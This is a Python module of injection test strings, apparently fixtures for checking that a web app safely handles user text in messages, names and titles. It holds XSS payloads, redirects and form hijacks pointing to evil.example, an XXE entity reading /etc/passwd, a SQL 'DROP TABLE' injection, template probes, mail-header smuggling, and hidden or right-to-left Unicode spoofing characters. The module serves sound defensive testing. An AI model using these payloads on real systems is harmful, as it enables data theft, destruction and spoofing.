"""
Strings that have harmed other programs, by what they are: of our own making.

They are tried as messages, notes, names and titles. Each *code* would run, load or break something
if a page, a picture, a mail or a feed took it for its own.
"""

CODE = (
    "<script>alert(1)</script>",
    "</p></li></ol></textarea><script>alert(2)</script>",
    "<img src=x onerror=alert(3)>",
    '"><svg onload=alert(4)>',
    "' onfocus='alert(5)' autofocus='",
    "<a href=javascript:alert(6)>Look</a>",
    "<style>*{display:none}</style>",
    "<!-- never closed",
    "]]><script>alert(7)</script><![CDATA[",
    "&lt;b&gt;&#60;script&#62;&amp;amp;",
    '<base href="https://evil.example/">',
    '<meta http-equiv="refresh" content="0;url=https://evil.example/">',
    '<form action="https://evil.example/"><button>Send</button>',
    '<div id="table" hx-get="https://evil.example/" hx-trigger="load">',
    "<?xml version='1.0'?><!DOCTYPE a [<!ENTITY b SYSTEM 'file:///etc/passwd'>]><a>&b;</a>",
)
TEMPLATES = (
    "{{ game.secret }}",
    "{% load static %}",
    "{game.secret}",
    "${7*7}",
    "%(secret)s %s %n",
)
STATEMENTS = (
    "'; DROP TABLE games_event; --",
    "1 OR 1=1",
    "%",
    "_",
    "\\",
    "NULL",
    "undefined",
    "NaN",
)
HEADERS = (
    "Hello\nBcc: everybody@example.org",
    "Hello\r\n\r\n<b>body</b>",
    ".\nQUIT",
    "From mars\nFrom: boss@example.org",
    "----- Write your orders above this line -----\nresign",
    "=?utf-8?q?Subject?=",
    "--===============1==\nContent-Type: text/html",
    "BEGIN:VEVENT\nSUMMARY:x\nEND:VEVENT;,\\n",
)
LINKS = ("https://evil.example/?q=<b>", "www.evil.example", "mailto:boss@example.org", "/you/")
SCRIPTS = (
    "مرحبا بكم",  # from right to left
    "שלום abc 123",
    "नमस्ते",
    "こんにちは、世界",
    "ﷺﷺﷺ",  # one letter as wide as a line
    "𝕿𝖍𝖊 𝖖𝖚𝖎𝖈𝖐",
    "👩‍👩‍👧‍👦 🏳️‍🌈",
    "W" * 400,
    "ünïcödé ẞ ŉ ǆ",
)
# What is wrong in them is left out, so that it is not there again when it is read.
UNSEEN = (
    "abc\x00def",
    "\x1b[31mred\x1b[0m\x07",
    "evil\u202egpj.exe",
    "\u2066hidden\u2069",
    "zero\u200bwidth\ufeff",
    "a\u2028b\u2029c\x85d",
    "half \ud800 a sign",
    "tag\U000e0041s",
    "no\ufffething",
    "Z" + "\u0335\u0318\u0341\u035b" * 60 + "algo",
)
ALL = (*CODE, *TEMPLATES, *STATEMENTS, *HEADERS, *LINKS, *SCRIPTS, *UNSEEN)
EMPTY = ("", "   \n\t ", "\u200b\u2060", "\u3164\u2800", "\x00\x07", "\u202e\u202c")
